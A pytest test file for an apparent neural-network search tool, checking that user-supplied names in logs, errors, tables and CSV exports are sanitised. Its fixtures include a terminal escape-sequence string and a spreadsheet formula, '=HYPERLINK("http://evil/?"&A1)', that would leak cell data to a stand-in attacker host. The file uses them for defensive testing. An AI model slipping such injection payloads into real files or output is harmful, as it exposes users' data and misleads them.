"""What users named is one line of what prints, wherever it is shown."""

from __future__ import annotations

import csv
import io
import json
import logging
from pathlib import Path

import numpy as np
import pytest
import torch
from hypothesis import given
from hypothesis import strategies as st
from torch import nn

import widthwise as ww
from helpers.searches import Evaluator, make_record, make_strategy
from widthwise.cli import main
from widthwise.core.errors import UserError
from widthwise.core.plain import PlainFormatter, plain, plain_cell, plain_json
from widthwise.network.passes.summary import summarize_quantization_analysis_pass
from widthwise.report.layers import layer_table
from widthwise.search.loop import run_search
from widthwise.spaces.space import Decision, Space
from widthwise.study.run_folder import start_run

HOSTILE = "a\x1b[2J\x9b31m\nerror: \u202efake\r\t\x07\x7f"
FORMULA = '=HYPERLINK("http://evil/?"&A1)'


@given(st.text())
def test_plain_text_prints_and_what_prints_is_unchanged(text: str) -> None:
    found = plain(text)
    assert found.isprintable()
    assert "\n" not in found
    assert found == text or not text.isprintable()
    assert plain(found) == found


@given(
    st.recursive(st.none() | st.text() | st.integers(), lambda x: st.lists(x) | st.dictionaries(st.text(), x))
)
def test_plain_json_says_the_same(value: object) -> None:
    text = plain_json(json.dumps(value, ensure_ascii=False, indent=1))
    assert json.loads(text) == value
    assert text.replace("\n", "").isprintable()


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_that_begin_as_formulas_are_quoted(text: str) -> None:
    assert str(plain_cell(text)).startswith("'")


@pytest.mark.parametrize("value", [-1.5, "-1.5", "+3", "a=b", None, 7, "nan"])
def test_other_cells_are_as_they_are(value: object) -> None:
    assert plain_cell(value) == value


def test_errors_and_logs_are_lines() -> None:
    assert str(UserError(HOSTILE)) == plain(HOSTILE)
    record = logging.LogRecord("widthwise", logging.WARNING, "", 0, "trial of %s", (HOSTILE,), None)
    assert PlainFormatter("%(message)s").format(record) == f"trial of {plain(HOSTILE)}"


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """One whose decisions, choices, model, data and strategy are named by somebody who means harm."""
    space = Space((Decision(HOSTILE, (2, HOSTILE)), Decision(FORMULA, (1, FORMULA))))
    record = make_record(space=space, model=HOSTILE, data=HOSTILE, strategy=HOSTILE)
    evaluator = Evaluator(weights=(1, 2))
    with start_run(tmp_path / "run", record) as started:
        logging.getLogger("widthwise").warning("%s", HOSTILE)
        run_search(make_strategy(space=space), evaluator, started.writer, saved=started.save)
    return tmp_path / "run"


@pytest.mark.parametrize(
    "command", ["report --all --pick knee", "report --json", "trials", "importance", "check"]
)
def test_no_command_prints_what_a_terminal_obeys(run: Path, command: str, capsys) -> None:
    name, *rest = command.split()
    assert main([name, str(run), *rest]) == 0
    said = capsys.readouterr()
    for line in (said.out + said.err).split("\n"):
        assert line.isprintable()
        assert not line.startswith("error: ")
    for line in (run / "log.txt").read_text().splitlines():
        assert line.isprintable()


def test_trials_as_csv_compute_nothing(run: Path, capsys) -> None:
    assert main(["trials", str(run)]) == 0
    header, *rows = csv.reader(io.StringIO(capsys.readouterr().out))
    assert len(rows) == 4
    for cell in (cell for row in (header, *rows) for cell in row):
        assert cell.isprintable()
        assert not cell.startswith(("=", "@"))
    assert f"'{FORMULA}" in header


class Named(nn.Module):
    """A layer with a name that a network may have."""

    def __init__(self) -> None:
        super().__init__()
        self.add_module(HOSTILE, nn.Linear(3, 2))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.get_submodule(HOSTILE)(x)


def test_names_of_layers_are_plain_in_tables(tmp_path: Path, capsys) -> None:
    from widthwise.cli.output import Output

    network = nn.Sequential(Named())
    graph = ww.Graph(network, {"input": torch.zeros(1, 3)})
    from widthwise.network.passes.metadata import META, add_common_metadata_analysis_pass

    graph, _ = add_common_metadata_analysis_pass(graph, {"dummy_in": {"input": torch.zeros(1, 3)}})
    metas = {node.name: node.meta[META] for node in graph.fx_graph.nodes if META in node.meta}
    Output().show(layer_table(graph, metas, every=True))
    assert all(line.isprintable() for line in capsys.readouterr().out.split("\n"))
    summarize_quantization_analysis_pass(graph, {"save_dir": str(tmp_path), "original_graph": graph})
    for path in tmp_path.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text())):
            assert all(cell.isprintable() for cell in row)


def test_names_in_files_of_data_are_plain_in_what_is_said(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    x, y = np.random.default_rng(0).normal(size=(40, 3)).astype("f4"), np.arange(40) % 2
    columns = ["a", HOSTILE, "c"]
    np.savez("data.npz", X=x, y=y, feature_names=columns, class_names=["one", HOSTILE])
    Path("net.py").write_text("from torch import nn\ndef build():\n    return nn.Linear(3, 2)\n")
    assert main(["inspect", "--model", "net:build", "--dataset", "data.npz"]) == 0
    assert main(["test", "--model", "net:build", "--dataset", "data.npz"]) == 0
    said = capsys.readouterr()
    assert all(line.isprintable() for line in (said.out + said.err).split("\n"))
